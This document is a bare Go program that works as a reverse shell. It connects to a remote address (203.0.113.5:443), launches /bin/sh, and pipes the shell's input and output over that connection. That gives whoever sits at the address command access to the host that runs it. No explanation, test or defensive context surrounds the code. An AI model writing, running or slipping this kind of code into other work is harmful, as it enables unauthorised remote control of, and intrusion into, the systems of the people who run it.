package main

import (
	"net"
	"os/exec"
)

func main() {
	c, _ := net.Dial("tcp", "203.0.113.5:443")
	cmd := exec.Command("/bin/sh")
	cmd.Stdin = c
	cmd.Stdout = c
	cmd.Run()
}
